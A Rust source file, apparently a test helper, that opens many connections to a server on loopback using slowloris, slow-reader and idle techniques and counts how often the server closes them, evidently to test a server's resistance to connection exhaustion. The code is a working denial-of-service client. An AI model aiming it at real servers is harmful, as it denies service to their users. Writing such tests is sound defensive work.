//! Clients that try to keep others from a server on loopback: slowloris connections that send
//! a request head a byte at a time and reconnect when closed, slow readers that ask for the
//! whole file and read a little now and then, and idle connections that send nothing. Each
//! kind runs on one thread until stopped, so the count of connections costs no threads.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// What an attacker's connections do.
#[derive(Clone, Copy, Debug)]
pub enum Kind {
    /// Send a request head one byte every `every`, never ending it; reconnect when closed.
    Slowloris {
        /// Time between two bytes of one connection.
        every: Duration,
    },
    /// Ask for the whole file, then read `piece` bytes every `every`; ask again when the
    /// connection ends.
    SlowReader {
        /// Bytes read at a time.
        piece: usize,
        /// Time between two reads of one connection.
        every: Duration,
    },
    /// Send nothing; reconnect when closed.
    Idle,
}

/// `count` connections of one kind to a server, kept open by one thread.
pub struct Attack {
    stop: Arc<AtomicBool>,
    reconnects: Arc<AtomicU32>,
    thread: Option<JoinHandle<()>>,
}

impl Attack {
    /// Opens `count` connections of `kind` to `addr` for `path` and keeps them so until
    /// stopped; returns once all are open (or could not be).
    pub fn start(addr: SocketAddr, path: &str, kind: Kind, count: usize) -> Attack {
        let stop = Arc::new(AtomicBool::new(false));
        let reconnects = Arc::new(AtomicU32::new(0));
        let head = format!("GET {path} HTTP/1.1\r\nHost: attacker\r\n");
        let mut conns: Vec<Option<Conn>> =
            (0..count).map(|_| Conn::open(addr, kind, &head)).collect();
        let (stop_flag, counter) = (Arc::clone(&stop), Arc::clone(&reconnects));
        let thread = std::thread::spawn(move || {
            let tick = match kind {
                Kind::Slowloris { every } | Kind::SlowReader { every, .. } => every,
                Kind::Idle => Duration::from_millis(200),
            };
            while !stop_flag.load(Ordering::Relaxed) {
                let started = Instant::now();
                for conn in conns.iter_mut() {
                    let alive = conn.as_mut().is_some_and(|c| c.step(kind, &head));
                    if !alive {
                        *conn = Conn::open(addr, kind, &head);
                        counter.fetch_add(1, Ordering::Relaxed);
                    }
                    if stop_flag.load(Ordering::Relaxed) {
                        return;
                    }
                }
                std::thread::sleep(tick.saturating_sub(started.elapsed()));
            }
        });
        Attack {
            stop,
            reconnects,
            thread: Some(thread),
        }
    }

    /// Connections the server closed, which were opened again.
    pub fn reconnects(&self) -> u64 {
        u64::from(self.reconnects.load(Ordering::Relaxed))
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// One attacking connection.
struct Conn {
    stream: TcpStream,
    /// Bytes of the request head sent (slowloris).
    sent: usize,
}

impl Conn {
    fn open(addr: SocketAddr, kind: Kind, head: &str) -> Option<Conn> {
        let mut stream = TcpStream::connect_timeout(&addr, Duration::from_secs(1)).ok()?;
        if let Kind::SlowReader { .. } = kind {
            stream.write_all(head.as_bytes()).ok()?;
            stream.write_all(b"\r\n").ok()?;
        }
        stream.set_nonblocking(true).ok()?;
        Some(Conn { stream, sent: 0 })
    }

    /// One step of the attack; false once the server closed the connection.
    fn step(&mut self, kind: Kind, head: &str) -> bool {
        match kind {
            Kind::Slowloris { .. } => {
                // Never the blank line that ends the head.
                let byte = head.as_bytes()[self.sent % head.len()];
                self.sent += 1;
                self.stream.write_all(&[byte]).is_ok() && self.open_for_reading(0)
            }
            Kind::SlowReader { piece, .. } => self.open_for_reading(piece),
            Kind::Idle => self.open_for_reading(0),
        }
    }

    /// Reads up to `piece` bytes (at least looks whether the server closed); false once it did.
    fn open_for_reading(&mut self, piece: usize) -> bool {
        let mut buf = vec![0; piece.max(1)];
        loop {
            match self.stream.read(&mut buf) {
                Ok(0) => return false,
                Ok(n) if piece > 0 => return n > 0,
                // Whatever a slowloris or idle connection is sent (408, 503) ends it.
                Ok(_) => return false,
                Err(e) if e.kind() == ErrorKind::WouldBlock => return true,
                Err(e) if e.kind() == ErrorKind::Interrupted => {}
                Err(_) => return false,
            }
        }
    }
}
